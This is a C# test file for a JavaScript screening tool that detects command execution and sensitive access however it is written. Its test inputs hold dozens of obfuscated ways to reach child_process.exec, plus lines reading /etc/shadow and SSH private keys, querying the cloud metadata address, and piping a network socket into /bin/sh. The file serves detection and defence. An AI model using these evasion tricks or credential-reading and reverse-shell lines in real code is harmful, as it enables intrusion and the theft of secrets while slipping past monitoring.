using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;
using InterpreterGuard.Core.Submissions;

namespace InterpreterGuard.Screening.Tests;

/// <summary>JavaScript is read in process; names are found through every usual way of writing them.</summary>
public sealed class JavaScriptTests(ParserContainer parser)
{
    [Theory]
    [InlineData("require('child_process').exec('curl x')")]
    [InlineData("const cp = require('node:child_process'); cp.execSync('curl x')")]
    [InlineData("const { exec } = require('child_process'); exec('curl x')")]
    [InlineData("const { exec: run } = require('child_process'); run('curl x', (e, out) => {})")]
    [InlineData("import { exec } from 'child_process'; exec('curl x')")]
    [InlineData("import * as cp from 'node:child_process'; cp.exec('curl x')")]
    [InlineData("import cp from 'child_process'; cp.exec('curl x')")]
    [InlineData("const { exec } = await import('child_process'); exec('curl x')")]
    [InlineData("import('child_process').then(cp => cp.exec('curl x'))")]
    [InlineData("import('child_process').then(({ exec }) => exec('curl x'))")]
    [InlineData("require('child_' + 'process')['ex' + 'ec']('curl x')")]
    [InlineData("const m = ['child', 'process'].join('_'); require(m).exec(`curl ${'x'}`)")]
    [InlineData("const m = 'ssecorp_dlihc'.split('').reverse().join(''); require(m).exec('curl x')")]
    [InlineData("const m = String.fromCharCode(99, 104, 105, 108, 100) + '_process'; require(m).exec('curl x')")]
    [InlineData("const m = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString(); require(m).exec('curl x')")]
    [InlineData("require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('curl x')")]
    [InlineData("require('\\x63hild_process').exec('curl x')")]
    [InlineData("require([99,104,105,108,100,95,112,114,111,99,101,115,115].map(c => String.fromCharCode(c)).join('')).exec('curl x')")]
    [InlineData("process.mainModule.require('child_process').exec('curl x')")]
    [InlineData("module.constructor._load('child_process').exec('curl x')")]
    [InlineData("eval('require')('child_process').exec('curl x')")]
    [InlineData("Function('return this')().process.mainModule.require('child_process').exec('curl x')")]
    [InlineData("new Function('return process')()['mainModule']['require']('child_process')['exec']('curl x')")]
    [InlineData("require('module')._load('child_process').exec('curl x')")]
    [InlineData("require('6368696c645f70726f63657373'.match(/.{1,2}/g).map(h => String.fromCharCode(parseInt(h, 16))).join('')).exec('curl x')")]
    [InlineData("require('c1h2i3l4d5_6p7r8o9c0ess'.replace(/[0-9]/g, '')).exec('curl x')")]
    [InlineData("require([...'dijme`qspdftt'].map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join('')).exec('curl x')")]
    [InlineData("const { m } = JSON.parse('{\"m\": \"child_process\"}'); require(m).exec('curl x')")]
    [InlineData("const a = ['exec', 'child_process']; const b = (i) => a[i]; require(b(1))[b(0)]('curl x')")]
    [InlineData("const a = [99,104,105,108,100,95,112,114,111,99,101,115,115]; let m = ''; for (let i = 0; i < a.length; i++) m += String.fromCharCode(a[i]); require(m).exec('curl x')")]
    [InlineData("const s = 'ssecorp_dlihc'; let m = ''; for (let i = s.length - 1; i >= 0; i--) m += s[i]; require(m).exec('curl x')")]
    [InlineData("for (let i = 0; i < unknown(); i++) require('child_process').exec('curl x')")]
    [InlineData("globalThis.require('child_process').exec('curl x')")]
    [InlineData("import { createRequire } from 'module'; const require = createRequire(import.meta.url); require('child_process').exec('curl x')")]
    [InlineData("const run = require('util').promisify(require('child_process').exec); await run('curl x')")]
    [InlineData("require('child_process').exec.call(null, 'curl x')")]
    [InlineData("const e = require('child_process').exec.bind(null); e('curl x')")]
    [InlineData("Reflect.apply(require('child_process').exec, null, ['curl x'])")]
    [InlineData("Reflect.get(require('child_process'), 'exec')('curl x')")]
    [InlineData("const tools = { cp: require('child_process') }; tools.cp.exec('curl x')")]
    [InlineData("main(); function main() { require('child_process').exec('curl x') }")]
    [InlineData("function run(cmd) { require('child_process').exec(cmd) } run('curl x')")]
    [InlineData("const run = (cmd = 'curl x') => require('child_process').exec(cmd); run()")]
    [InlineData("(async () => { const cp = require('child_process'); await cp.exec('curl x'); })()")]
    [InlineData("[1].forEach(() => require('child_process').exec('curl x'))")]
    [InlineData("for (const c of ['curl x']) require('child_process').exec(c)")]
    [InlineData("class A { constructor() { this.cp = require('child_process'); } go() { this.cp.exec('curl x'); } } new A().go()")]
    [InlineData("let cp; function load() { cp = require('child_process'); } load(); cp.exec('curl x')")]
    [InlineData("try { x() } catch { require('child_process').exec('curl x') }")]
    [InlineData("const { a: { b: [, f] } } = { a: { b: [0, require('child_process').exec] } }; f('curl x')")]
    [InlineData("process.on('exit', function () { require('child_process').exec('curl x') })")]
    [InlineData("label: switch (1) { default: require('child_process').exec('curl x') }")]
    [InlineData("process.binding ?? require('child_process').exec('curl x')")]
    public async Task A_command_is_found_however_it_is_written(string code)
    {
        var report = await ReadAsync(code);

        Assert.Empty(report.Facts.OfType<CodeUnreadable>());
        Assert.Equal(["x"], report.Call("curl").Arguments);
        Assert.Contains(report.Facts.OfType<CodeImport>(), import => import.Module == "child_process");
    }

    [Theory]
    [InlineData("const { execSync } = require('child_process'); execSync('curl x')", "child_process.execSync")]
    [InlineData("require('child_process').spawn('bash', ['-c', 'curl x'])", "child_process.spawn bash -c")]
    [InlineData("require('child_process').spawn('curl x', { shell: true })", "child_process.spawn")]
    [InlineData("require('child_process').spawnSync('sh', [], { input: 'curl x' })", "child_process.spawnSync sh")]
    [InlineData("eval(\"require('child_process').exec('curl x')\")", "eval>child_process.exec")]
    [InlineData("(0, eval)(`require('child_process').exec('curl x')`)", "eval>child_process.exec")]
    [InlineData("const cp = require('child_process'); eval(\"cp.exec('curl x')\")", "eval>child_process.exec")]
    [InlineData("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgeCcp'))", "eval>child_process.exec")]
    [InlineData("new Function('r', \"r('child_process'); require('child_process').exec('curl x')\")(require)", "Function>child_process.exec")]
    [InlineData("[].constructor.constructor(\"process.mainModule.require('child_process').exec('curl x')\")()", "Function>child_process.exec")]
    [InlineData("(() => {}).constructor(\"require('child_process').exec('curl x')\")()", "Function>child_process.exec")]
    [InlineData("import('data:text/javascript,import cp from \"child_process\"; cp.exec(\"curl x\")')", "data:>child_process.exec")]
    [InlineData("import 'data:text/javascript;base64,aW1wb3J0IGNwIGZyb20gImNoaWxkX3Byb2Nlc3MiOyBjcC5leGVjKCJjdXJsIHgiKQ=='", "data:>child_process.exec")]
    [InlineData("setTimeout(\"require('child_process').exec('curl x')\", 10)", "setTimeout>child_process.exec")]
    [InlineData("require('vm').runInThisContext(\"require('child_process').exec('curl x')\")", "vm.runInThisContext>child_process.exec")]
    [InlineData("require('child_process').execFile('node', ['-e', \"require('child_process').exec('curl x')\"])", "child_process.execFile node -e>child_process.exec")]
    [InlineData("require('child_process').exec('node -e \"require(\\'child_process\\').exec(\\'curl x\\')\"')", "child_process.exec>node -e>child_process.exec")]
    public async Task A_layer_is_read_with_its_path(string code, string path)
    {
        var report = await ReadAsync(code);

        var call = report.Call("curl");
        Assert.Equal(Language.Shell, call.Language);
        Assert.Equal(path, string.Join('>', call.Layers));
    }

    [Theory]
    [InlineData("require('fs').readFileSync('/etc/' + 'shadow', 'utf8')", "fs.readFileSync(/etc/shadow utf8)")]
    [InlineData("import { readFile } from 'fs/promises'; await readFile('/etc/shadow')", "fs.promises.readFile(/etc/shadow)")]
    [InlineData("const path = require('path'), os = require('os'); require('fs').readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "fs.readFileSync(~/.ssh/id_rsa)")]
    [InlineData("fetch(`http://169.254.169.254/latest/`)", "fetch(http://169.254.169.254/latest/)")]
    [InlineData("require('http').get({ hostname: '169.254.169.254', path: '/' }, r => r.pipe(process.stdout))", "http.get(169.254.169.254 /)")]
    [InlineData("const net = require('net'); const s = new net.Socket(); s.connect(4444, '192.0.2.7')", "net.Socket.connect(4444 192.0.2.7)")]
    [InlineData("new WebSocket('ws://192.0.2.7')", "WebSocket(ws://192.0.2.7)")]
    [InlineData("const sh = require('child_process').spawn('/bin/sh'); const c = require('net').connect(1, 'h'); c.pipe(sh.stdin)", "net.connect.pipe(child_process.spawn.stdin)")]
    [InlineData("unknown.method('a b')", ".method(a b)")]
    [InlineData("console.log('hi', 6 * 7)", "console.log(hi 42)")]
    public async Task A_call_has_its_name_and_its_arguments(string code, string call) =>
        Assert.Contains(call, (await ReadAsync(code)).Calls());

    [Fact]
    public async Task Facts_stand_where_the_code_stands()
    {
        var report = await ReadAsync("const fs = require('fs');\nconst t = 'ä😀'; fs.readFileSync('/etc/passwd');\n");

        Assert.Equal(new SourceSpan(2, 18, 2, 48), report.Call("fs.readFileSync").Span);
    }

    [Theory]
    [InlineData("const x = ;", 1, 11)]
    [InlineData("let a = 1;\nlet a = 2;", 2, 5)]
    [InlineData("import fs from 'fs';\nfs.(", 2, 4)]
    public async Task What_is_no_JavaScript_is_a_fact_with_its_place(string code, int line, int column)
    {
        var unreadable = Assert.Single((await ReadAsync(code)).Facts.OfType<CodeUnreadable>());

        Assert.Equal(("syntax", line, column), (unreadable.Reason, unreadable.Span.StartLine, unreadable.Span.StartColumn));
    }

    [Theory]
    [InlineData("await 1; return 5;")]
    [InlineData("#!/usr/bin/env node\nconsole.log(1)")]
    [InlineData("import a from 'a'; export const b = 1; export default class {} ; export * from 'c'; export { b as d };")]
    [InlineData("with (Math) { var y = sqrt(2) } undeclared = 010;")]
    [InlineData("class A { #p = 1; static { this.q = 2; } get x() { return this.#p } static async *[Symbol.iterator]() { yield* [] } }")]
    [InlineData("a?.b?.[c]?.(d); x ??= 1; y ||= 2; z **= 3; 1_000n; /(?<n>a)\\k<n>/gu.test(`${`x${1}`}`)")]
    [InlineData("for await (const x of y) {} for (;;) break; do { continue } while (0); with_: for (const k in {}) {}")]
    [InlineData("const importance = 5; // import and export are only words here\nwith ({}) {}")]
    public async Task Every_form_is_read(string code) => Assert.Empty((await ReadAsync(code)).Facts.OfType<CodeUnreadable>());

    [Theory]
    [InlineData("[")]
    [InlineData("{")]
    [InlineData("(a=>")]
    [InlineData("`${")]
    [InlineData("!")]
    [InlineData("a?b:")]
    [InlineData("a=")]
    [InlineData("function f(){")]
    [InlineData("new ")]
    [InlineData("if(a){}else ")]
    public async Task Nesting_beyond_the_stack_is_said_and_survived(string piece)
    {
        var report = await ReadAsync(string.Concat(Enumerable.Repeat(piece, 50_000)) + "1");

        Assert.Equal("too_deep", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Theory]
    [InlineData(".b")]
    [InlineData("+a")]
    [InlineData("()")]
    [InlineData("[0]")]
    public async Task Chains_that_lean_to_the_left_are_read_or_said(string piece)
    {
        var report = await ReadAsync("a" + string.Concat(Enumerable.Repeat(piece, 50_000)));

        Assert.All(report.Facts.OfType<CodeUnreadable>(), fact => Assert.Equal("too_deep", fact.Reason));
    }

    [Fact]
    public async Task A_parse_that_takes_too_long_is_said()
    {
        var code = string.Concat(Enumerable.Repeat("x = [1, 2, 3];\n", 60_000));
        var report = await Screening.Screener(parser, ("Screening:JavaScript:ParseTimeMax", "00:00:00.050")).JavaScriptAsync(code);

        Assert.Equal("time_out", Assert.Single(report.Facts.OfType<CodeUnreadable>()).Reason);
    }

    [Fact]
    public async Task Python_and_shell_lead_to_JavaScript()
    {
        var python = await Screening.Screener(parser).PythonAsync("import subprocess\nsubprocess.run(['node', '-e', 'fetch(\"http://192.0.2.7\")'])");
        var shell = await Screening.Screener(parser).ShellAsync("echo 'fetch(\"http://192.0.2.7\")' | node");

        Assert.Equal(["http://192.0.2.7"], python.Call("fetch").Arguments);
        Assert.Equal(["http://192.0.2.7"], shell.Call("fetch").Arguments);
    }

    private Task<ScreeningReport> ReadAsync(string code) => Screening.Screener(parser).JavaScriptAsync(code);
}
